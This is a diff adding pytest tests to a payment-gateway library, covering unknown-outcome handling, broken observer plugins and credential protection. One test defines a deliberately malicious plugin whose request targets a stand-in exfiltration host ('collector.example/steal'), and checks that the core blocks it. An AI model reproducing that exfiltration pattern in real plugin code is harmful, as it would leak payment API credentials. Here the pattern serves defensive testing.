@@ -416,3 +416,98 @@ async def _async_smoke(psp: FakePsp) -> Payment:
 async def test_the_async_gateway_runs_inside_an_event_loop(psp: FakePsp) -> None:
     payment = await _async_smoke(psp)
     assert payment.status is PaymentStatus.REQUIRES_ACTION
+
+
+# -- what the core must never do, whatever the provider or the plugins do ----------------------------
+
+
+@pytest.mark.parametrize("after", ["429", "409", "503"])
+def test_an_answer_lost_after_the_write_landed_stays_an_unknown_outcome_whatever_follows(
+    both: Both, psp: FakePsp, after: str
+) -> None:
+    """A 429 (or an unrecognised 409) on the resend must not hide that the first try may have landed."""
+    psp.faults = ["drop", after, after]
+    with pytest.raises(TransportError) as caught:
+        both.call("authorize", authorize_request(), retry=RetryPolicy.no_wait(attempts=3))
+    assert caught.value.outcome_unknown is True
+    assert caught.value.idempotency_key
+    assert psp.effects == 1
+    both.call("authorize", authorize_request(idempotency_key=caught.value.idempotency_key))
+    assert psp.effects == 1
+
+
+def test_a_broken_answer_to_a_write_is_an_unknown_outcome_not_a_raw_httpx_error(psp: FakePsp) -> None:
+    import httpx
+
+    def broken(request: httpx.Request) -> httpx.Response:
+        psp.handle(request)  # the PSP acts...
+        raise httpx.DecodingError("garbled gzip", request=request)  # ...and the answer is unreadable
+
+    from tests.fakepay import FakePayPlugin
+
+    gateway = Gateway(
+        "fakepay",
+        options={"api_key": psp.api_key},
+        transport=httpx.MockTransport(broken),
+        plugins=[("fakepay", FakePayPlugin())],
+        load_entrypoints=False,
+        retry=RetryPolicy.no_wait(attempts=1),
+    )
+    with gateway, pytest.raises(TransportError) as caught:
+        gateway.authorize(authorize_request())
+    assert caught.value.outcome_unknown is True
+    assert psp.effects == 1
+
+
+class BrokenObserver:
+    @hookimpl
+    def psp_operation_completed(self, provider: str, operation: str, request: object, result: object) -> None:
+        raise RuntimeError("statsd is down")
+
+    @hookimpl
+    def psp_operation_failed(
+        self, provider: str, operation: str, request: object, error: BaseException
+    ) -> None:
+        raise RuntimeError("audit log is full")
+
+
+def test_a_broken_observer_never_turns_a_charge_into_an_exception_nor_hides_an_error(psp: FakePsp) -> None:
+    with _gateway_with(psp, ("metrics", BrokenObserver())) as gw:
+        assert gw.authorize(authorize_request()).status is PaymentStatus.REQUIRES_ACTION
+        psp.faults = ["drop"] * 4
+        with pytest.raises(TransportError) as caught:
+            gw.authorize(authorize_request(merchant_reference="order-2"))
+    assert caught.value.outcome_unknown is True
+
+
+def test_a_flow_cannot_replace_the_configured_credentials_nor_send_them_elsewhere(psp: FakePsp) -> None:
+    import httpx
+
+    from psp_core import ConfigurationError, Flow
+
+    class Sneaky(__import__("tests.fakepay").fakepay.FakePayPlugin):  # type: ignore[misc]
+        @hookimpl
+        def psp_get_payment(self, config: object, payment_id: str) -> Flow[Payment]:
+            if payment_id == "elsewhere":
+                yield httpx.Request("GET", "https://collector.example/steal")
+            response = yield httpx.Request(
+                "GET", f"/charges/{payment_id}", headers={"Authorization": "Bearer x"}
+            )
+            # The message is checked, not the header itself: the redactor masks the key in errors.
+            raise AssertionError(str(response.request.headers["Authorization"] == f"Bearer {psp.api_key}"))
+
+    gw = Gateway(
+        "fakepay",
+        options={"api_key": psp.api_key},
+        transport=psp.transport(),
+        plugins=[("fakepay", Sneaky())],
+        load_entrypoints=False,
+        retry=RetryPolicy.no_wait(),
+    )
+    with gw:
+        with pytest.raises(ConfigurationError, match=r"collector\.example"):
+            gw.get_payment("elsewhere")
+        assert psp.requests == []
+        with pytest.raises(AssertionError) as sent:
+            gw.get_payment("ch_1")
+    assert str(sent.value) == "True"
